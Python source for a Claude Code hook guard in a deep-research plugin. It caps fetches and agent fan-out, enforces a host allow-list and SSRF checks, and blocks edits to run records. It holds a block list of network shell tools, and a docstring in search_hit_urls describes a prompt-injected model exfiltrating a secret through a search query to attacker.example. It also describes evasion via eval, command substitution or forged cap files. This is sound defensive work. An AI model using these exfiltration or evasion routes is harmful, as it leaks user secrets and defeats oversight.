"""The Claude Code hook guard: caps and fetch safety enforced by the harness, not the prompt.

``hooks/hooks.json`` sends every PreToolUse event for WebFetch, Bash, Agent (``Task`` in older
clients) and the file-writing tools, and every PostToolUse event for WebSearch and Agent, to
``deep-research guard``. A denial is the reason on stderr and exit code 2 — Claude Code then
blocks the call and shows the reason to the model. Allowing prints nothing and exits 0: the
guard never pre-approves a call, so the user's own permission rules still apply.

What each check does, and how it fails:

* **fetch safety** (WebFetch, ``deep-research fetch`` in Bash) — *fails closed*. Always: the URL
  must pass the SSRF checks that need no DNS (:func:`netpolicy.check_url`: scheme, credentials,
  ports, private/metadata addresses and names). During an active run also: the host must be on
  the run's allow-list (exact host or subdomain), and the run's fetch budget must not be spent.
  A fetch command whose URL is not a literal (``$URL``, ``$(…)``) is denied, as is our CLI
  called through command substitution or ``eval`` (``bash -c`` is looked into); so is any
  error while deciding.
* **MCP calls** (``deep-research mcp-fetch`` in Bash) during an active run — *fails closed*:
  each counts against the run's fetch budget; the three MCP gates run inside the command.
* **network tools in Bash** (curl, wget, nc, ssh, …) during an active run — *fails closed*; a
  best-effort net under the real control, which is that fetchers fetch only through our CLI.
* **allow-list widening** (``deep-research hosts add`` in Bash) during an active run — denied:
  the list grows only from the hosts of WebSearch results (PostToolUse). ``start`` with
  ``--allow-host`` is denied too (static hosts are for the CLI outside Claude Code), and so is
  a second ``start`` on top of an active run (it would reset the budget).
* **fetches outside a run** (``deep-research fetch``/``mcp-fetch`` with no active run) — denied:
  otherwise ``finish`` followed by a fetch would leave the allow-list behind.
* **the run's own records** (Write, Edit, MultiEdit, NotebookEdit; Bash commands that name
  them) — *fails closed*: ``state/active-run.json`` and the per-session run records always
  (:func:`runstate.session_state`: how a hook finds a run started after a ``cd``), and during a
  run the brief's
  ``run.json`` (caps), ``guard-log.jsonl`` (budget ledger), ``allowed-hosts.json``,
  ``trace.json``, ``sources.jsonl``, ``fetch-log.jsonl``, ``audit.json`` and ``corpus/`` — files
  only the CLI writes; editing one would forge a gate's input or reset a cap. Reading them
  (cat, jq, …) passes. ``claims.json`` stays writable: the synthesis writes it, and the trace
  gate re-reads every quote from ``corpus/``.
* **fan-out and round caps** (Agent) during an active run — *fails closed*: at most
  ``max_fanout`` dispatches in flight; at most ``max_fanout × max_rounds`` fetcher dispatches in
  the run; a prompt declaring ``round=N`` above ``max_rounds`` is denied.
* **no active run** — fetch safety, the run pointers and the no-fetch-outside-a-run rule
  apply; everything else passes.
* **PostToolUse / PostToolUseFailure** (recording WebSearch hosts — from the structured hits
  only, never from the echoed query or prose — and agent completions, failed ones included, so
  a dispatch that fails after admission frees its slot) cannot block and *fails open*:
  a missed record only makes later checks stricter (fewer hosts, more agents counted in flight;
  a dispatch stops counting after an hour).
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shlex
import time
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from deep_research.brief import Brief
from deep_research.errors import TargetRefused
from deep_research.fetch.hosts import add_hosts
from deep_research.fetch.hosts import load as load_allowlist
from deep_research.fetch.netpolicy import NetPolicy, check_host, check_url
from deep_research.plugin.runstate import (
    ActiveRun,
    append_ledger,
    in_flight,
    load_active,
    locked,
    pointer_path,
    read_ledger,
    session_state,
    sessions_dir,
    state_dir,
)
from deep_research.urls import host_of

AGENT_TOOLS = frozenset({"Agent", "Task"})
NETWORK_TOOLS = frozenset(
    {
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "telnet",
        "ssh",
        "scp",
        "sftp",
        "ftp",
        "rsync",
        "http",
        "https",
        "xh",
        "aria2c",
        "lynx",
        "w3m",
        "links",
        "socat",
    }
)
WRITE_TOOLS = frozenset({"Write", "Edit", "MultiEdit", "NotebookEdit"})
# Written only by the CLI: a model editing one would forge a gate's input or reset a cap.
PROTECTED_FILES = frozenset(
    {
        "run.json",
        "guard-log.jsonl",
        "allowed-hosts.json",
        "trace.json",
        "sources.jsonl",
        "fetch-log.jsonl",
        "audit.json",
    }
)
READ_ONLY_PROGRAMS = frozenset(
    {
        "cat",
        "head",
        "tail",
        "less",
        "more",
        "jq",
        "grep",
        "rg",
        "wc",
        "ls",
        "stat",
        "file",
        "diff",
        "sha256sum",
        "shasum",
        "md5sum",
    }
)
_REDIRECTS = frozenset({">", ">>", ">|", "&>", "&>>"})
_CLI_NAMES = frozenset({"deep-research"})
_WRAPPERS = frozenset(
    {"env", "sudo", "nohup", "time", "command", "exec", "xargs", "nice", "timeout", "stdbuf"}
)
_SHELL_SEPARATORS = frozenset({"&&", "||", ";", "|", "&", "(", ")", ";;", "|&"})
_ROUND = re.compile(r"\bround\s*[=:]\s*(\d+)", re.IGNORECASE)
_FETCH_OPTIONS_WITH_VALUE = frozenset({"--brief", "--max-chars"})


@dataclass(frozen=True)
class Decision:
    allow: bool
    reason: str = ""


ALLOW = Decision(True)


def deny(reason: str) -> Decision:
    return Decision(False, reason)


# --- reading the event ----------------------------------------------------------------------


def parse_event(text: str) -> dict[str, Any]:
    value = json.loads(text)
    if not isinstance(value, dict):
        raise ValueError("the hook event is not a JSON object")
    return value


def _tool_input(event: Mapping[str, Any]) -> Mapping[str, Any]:
    value = event.get("tool_input")
    return value if isinstance(value, Mapping) else {}


def _commands(command: str) -> list[list[str]]:
    """A shell command line split into simple commands (raises ValueError when unparseable)."""
    lexer = shlex.shlex(command, posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    lexer.commenters = ""
    commands: list[list[str]] = [[]]
    for token in lexer:
        if token in _SHELL_SEPARATORS:
            commands.append([])
        else:
            commands[-1].append(token)
    return [words for words in commands if words]


def _program(word: str) -> str:
    return word.rsplit("/", 1)[-1]


def _cli_call(words: list[str]) -> list[str] | None:
    """The arguments after ``deep-research`` (or ``python -m deep_research.cli``), if called."""
    for index, word in enumerate(words):
        if _program(word) in _CLI_NAMES:
            return words[index + 1 :]
        if word == "-m" and index + 1 < len(words) and words[index + 1].startswith("deep_research"):
            return words[index + 2 :]
    return None


def _fetch_url(arguments: list[str]) -> str | None:
    """The URL argument of ``fetch URL [--brief DIR] [--json] [--max-chars N]``."""
    skip = False
    for word in arguments[1:]:
        if skip:
            skip = False
        elif word in _FETCH_OPTIONS_WITH_VALUE:
            skip = True
        elif not word.startswith("-"):
            return word
    return None


# --- checks ---------------------------------------------------------------------------------


def check_fetch(url: str, run: ActiveRun | None, *, tool: str) -> Decision:
    """SSRF always; during a run also the allow-list and the budget (recorded when allowed)."""
    if not re.fullmatch(r"https?://\S+", url.strip(), re.IGNORECASE):
        return deny(f"{tool}: the URL must be a literal http(s) URL, got {url[:80]!r}")
    try:
        check_url(url, NetPolicy())
    except TargetRefused as refused:
        return deny(f"{tool}: unsafe target refused ({refused.reason}): {refused.detail}")
    if run is None:
        return ALLOW
    host = host_of(url) or "?"
    allowlist = load_allowlist(Brief(run.brief))
    if allowlist is None or not allowlist.allows(url):
        return deny(
            f"{tool}: host {host} is not on this run's allow-list (hosts come from the run's "
            "search results and the static list; exact host or subdomain)"
        )
    return spend_fetch(run, tool, host)


def spend_fetch(run: ActiveRun, tool: str, target: str) -> Decision:
    """One fetch from the run's budget (page or MCP call alike), or a denial when it is spent."""
    brief = Brief(run.brief)
    with locked(brief):
        spent = sum(1 for row in read_ledger(brief) if row.get("event") == "fetch")
        if spent >= run.caps.max_fetches:
            return deny(f"{tool}: the run's fetch budget is spent ({spent}/{run.caps.max_fetches})")
        append_ledger(brief, {"event": "fetch", "tool": tool, "host": target})
    return ALLOW


def protected_record(target: str, run: ActiveRun | None, state: Path, cwd: Path) -> str | None:
    """Which of the run's CLI-only records ``target`` is, or None."""
    if not target:
        return None
    path = Path(os.path.expanduser(target))
    resolved = (path if path.is_absolute() else cwd / path).resolve()
    if resolved == pointer_path(state).resolve():
        return "active-run.json"
    if sessions_dir().resolve() in resolved.parents:
        return "the session's run record"
    if run is None:
        return None
    root = run.brief.resolve()
    if resolved.parent == root and resolved.name in PROTECTED_FILES:
        return resolved.name
    if resolved == root / "corpus" or root / "corpus" in resolved.parents:
        return "corpus/"
    return None


def _record_denied(tool: str, name: str) -> Decision:
    return deny(
        f"{tool}: {name} is written only by the deep-research CLI during a run; run the "
        "command that produces it instead (trace, normalize, counters, fetch, …)"
    )


def check_write(
    tool: str, tool_input: Mapping[str, Any], run: ActiveRun | None, state: Path, cwd: Path
) -> Decision:
    target = str(tool_input.get("file_path") or tool_input.get("notebook_path") or "")
    name = protected_record(target, run, state, cwd)
    return ALLOW if name is None else _record_denied(tool, name)


def _written_records(words: list[str], run: ActiveRun, state: Path, cwd: Path) -> str | None:
    """A protected record this simple command may write: a redirection target always, any
    argument of a program that is not a reader."""
    program, _ = _program_of(words)
    reader = program in READ_ONLY_PROGRAMS
    for index, word in enumerate(words):
        redirected = index > 0 and words[index - 1] in _REDIRECTS
        if reader and not redirected:
            continue
        name = protected_record(word, run, state, cwd)
        if name is not None:
            return name
    return None


_SUBSTITUTION = re.compile(r"\$\(|`|\beval\b")


def _mentions_cli(command: str) -> bool:
    return "deep-research" in command or "deep_research" in command


NO_RUN = (
    "deep-research {command}: no research run is active; fetches happen inside one, "
    "under its allow-list and budget — start it with `deep-research start`"
)


def check_start(arguments: list[str], run: ActiveRun | None) -> Decision:
    """A run's caps and hosts are fixed when it starts: no second start on top of an active run
    (it would reset the budget), and no static hosts chosen from inside Claude Code."""
    if run is not None:
        return deny(
            f"deep-research start: a research run is active ({run.brief.name}); "
            "finish it with `deep-research finish` before starting another"
        )
    if any(word == "--allow-host" or word.startswith("--allow-host=") for word in arguments):
        return deny(
            "deep-research start: static hosts cannot be added from inside Claude Code; "
            "the run's allow-list grows from its search results"
        )
    return ALLOW


def check_bash(
    command: str, run: ActiveRun | None, state: Path | None = None, cwd: Path | None = None
) -> Decision:
    try:
        commands = _commands(command)
    except ValueError:
        if run is not None or "deep-research" in command:
            return deny("Bash: the command line could not be parsed, so it cannot be checked")
        return ALLOW
    if _mentions_cli(command) and _SUBSTITUTION.search(command):
        # `$(which deep-research) fetch …` runs our CLI where no check can see it.
        return deny(
            "Bash: call deep-research directly, not through command substitution or "
            "eval, so the call can be checked"
        )
    for words in commands:
        arguments = _cli_call(words)
        if arguments is None and run is not None and state is not None:
            name = _written_records(words, run, state, cwd or Path.cwd())
            if name is not None:
                return _record_denied("Bash", name)
        if arguments:
            decision = check_cli_call(arguments, run)
        else:
            decision = _check_other_program(words, run, state, cwd)
        if not decision.allow:
            return decision
    return ALLOW


def check_cli_call(arguments: list[str], run: ActiveRun | None) -> Decision:
    """One `deep-research …` call (the words after the program name)."""
    command = arguments[0]
    if command == "start":
        return check_start(arguments, run)
    if command == "fetch":
        url = _fetch_url(arguments)
        if url is None:
            return deny("deep-research fetch: no URL given")
        decision = check_fetch(url, run, tool="deep-research fetch")
        if decision.allow and run is None:
            return deny(NO_RUN.format(command="fetch"))
        return decision
    if command == "mcp-fetch":
        if run is None:
            return deny(NO_RUN.format(command="mcp-fetch"))
        # The gates run inside the command; the guard only counts it against the budget.
        server = next((w for w in arguments[1:] if not w.startswith("-")), "?")
        return spend_fetch(run, "deep-research mcp-fetch", f"mcp:{server}")
    if run is not None and arguments[:2] == ["hosts", "add"]:
        return deny(
            "deep-research hosts add: during a run the allow-list grows only from search results"
        )
    return ALLOW


def _check_other_program(
    words: list[str], run: ActiveRun | None, state: Path | None, cwd: Path | None
) -> Decision:
    program, rest = _program_of(words)
    if program in ("sh", "bash", "zsh", "dash") and rest[:1] == ["-c"] and rest[1:]:
        nested = check_bash(rest[1], run, state, cwd)
        if not nested.allow:
            return nested
    if run is not None and program in NETWORK_TOOLS:
        return deny(
            f"Bash: {program} is not allowed during a research run; fetch "
            "through `deep-research fetch URL --brief DIR` so the text is kept"
        )
    return ALLOW


def _program_of(words: list[str]) -> tuple[str, list[str]]:
    """The program a simple command runs, past ``VAR=value`` and wrappers (env, sudo, …)."""
    index = 0
    while index < len(words) and (
        re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*=.*", words[index])
        or _program(words[index]) in _WRAPPERS
        or (index > 0 and words[index].startswith("-"))
    ):
        index += 1
    if index >= len(words):
        return "", []
    return _program(words[index]), words[index + 1 :]


def check_agent(tool_input: Mapping[str, Any], run: ActiveRun | None, tool_use_id: str) -> Decision:
    if run is None:
        return ALLOW
    agent_type = str(tool_input.get("subagent_type") or "general-purpose")
    prompt = str(tool_input.get("prompt") or "")
    declared = [int(found) for found in _ROUND.findall(prompt)]
    if declared and max(declared) > run.caps.max_rounds:
        return deny(
            f"Agent: round {max(declared)} exceeds the run's round cap ({run.caps.max_rounds})"
        )
    is_fetcher = agent_type.rsplit(":", 1)[-1] in ("fetcher", "mcp-fetcher")
    brief = Brief(run.brief)
    with locked(brief):
        rows = read_ledger(brief)
        running = in_flight(rows, time.time())
        if running >= run.caps.max_fanout:
            return deny(
                f"Agent: fan-out ceiling reached ({running} agents in flight, ceiling "
                f"{run.caps.max_fanout}); wait for results before dispatching more"
            )
        if is_fetcher:
            dispatches = (row for row in rows if row.get("event") == "dispatch")
            fetchers = sum(1 for row in dispatches if row.get("fetcher"))
            if fetchers >= run.caps.max_fetcher_dispatches:
                return deny(
                    f"Agent: the run's fetcher dispatches are spent ({fetchers}: "
                    f"{run.caps.max_fanout} per round × {run.caps.max_rounds} rounds)"
                )
        row: dict[str, Any] = {
            "event": "dispatch",
            "id": tool_use_id,
            "agent": agent_type,
            "fetcher": is_fetcher,
        }
        if is_fetcher:
            # What `counters` counts rounds by: a round is only as real as its dispatches.
            row["round"] = max(declared, default=1)
        append_ledger(brief, row)
    return ALLOW


def decide(event: Mapping[str, Any], state: Path) -> Decision:
    """The PreToolUse decision for one event. Errors deny (fail closed)."""
    tool = str(event.get("tool_name") or "")
    tool_input = _tool_input(event)
    cwd = Path(str(event.get("cwd") or "."))
    try:
        run = load_active(state)
    except Exception as exc:
        if tool in AGENT_TOOLS or tool in WRITE_TOOLS or tool in ("WebFetch", "Bash"):
            return deny(
                f"guard: the active run's record is unreadable ({exc}); fix or remove "
                f"{state / 'active-run.json'}"
            )
        return ALLOW
    try:
        if tool == "WebFetch":
            return check_fetch(str(tool_input.get("url") or ""), run, tool="WebFetch")
        if tool == "Bash":
            return check_bash(str(tool_input.get("command") or ""), run, state, cwd)
        if tool in WRITE_TOOLS:
            return check_write(tool, tool_input, run, state, cwd)
        if tool in AGENT_TOOLS:
            return check_agent(tool_input, run, str(event.get("tool_use_id") or ""))
    except Exception as exc:  # any failure while deciding denies: fetch safety fails closed
        return deny(f"guard: could not check {tool} ({type(exc).__name__}: {exc})")
    return ALLOW


def record(event: Mapping[str, Any], state: Path) -> None:
    """PostToolUse: WebSearch result hosts join the allow-list; agent completions are noted."""
    run = load_active(state)
    if run is None:
        return
    tool = str(event.get("tool_name") or "")
    brief = Brief(run.brief)
    if tool in AGENT_TOOLS:
        with locked(brief):
            append_ledger(brief, {"event": "done", "id": str(event.get("tool_use_id") or "")})
    elif tool == "WebSearch":
        found = search_hit_urls(event.get("tool_response"))
        hosts = sorted({host for url in found if (host := host_of(url)) and _public(host)})
        if hosts:
            with locked(brief):
                add_hosts(brief, hosts)


def search_hit_urls(response: Any) -> list[str]:
    """The ``url`` fields of the structured hits under a WebSearch response's ``results``.

    Only hits count. The response also echoes the model's own ``query`` and carries the search
    model's prose, and a URL written into either would otherwise open its host: a prompt-injected
    model could search for ``https://attacker.example/?s=<secret>`` and then fetch it. An unknown
    shape yields nothing, which only keeps the allow-list narrower.
    """
    urls: list[str] = []

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            url = node.get("url")
            if isinstance(url, str):
                urls.append(url)
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)
        # A string is prose: any URL in it is the writer's, not the search engine's.

    if isinstance(response, dict):
        walk(response.get("results"))
    return urls


def _public(host: str) -> bool:
    try:
        check_host(host, NetPolicy())
    except TargetRefused:
        return False
    return True


def run_guard(text: str, phase: str, state: Path | None = None) -> Decision:
    """``deep-research guard``: one event in, one decision out.

    The state folder is ``--state``, else ``$DEEP_RESEARCH_STATE``, else the one `start`
    recorded for the event's session, else ``state/`` under ``$CLAUDE_PROJECT_DIR`` or the
    event's ``cwd``.
    """
    try:
        event = parse_event(text)
    except ValueError as exc:
        return deny(f"guard: the hook event is not valid JSON ({exc})") if phase == "pre" else ALLOW
    if state is None and not os.environ.get("DEEP_RESEARCH_STATE"):
        try:
            state = session_state(event.get("session_id"))
        except Exception as exc:
            if phase == "pre":
                return deny(f"guard: this session's run record is unreadable ({exc})")
            return ALLOW
    if state is None:
        project = os.environ.get("CLAUDE_PROJECT_DIR") or str(event.get("cwd") or ".")
        state = state_dir(None, project)
    if phase == "post":
        # PostToolUse cannot block; a missed record only tightens later checks.
        with contextlib.suppress(Exception):
            record(event, state)
        return ALLOW
    return decide(event, state)
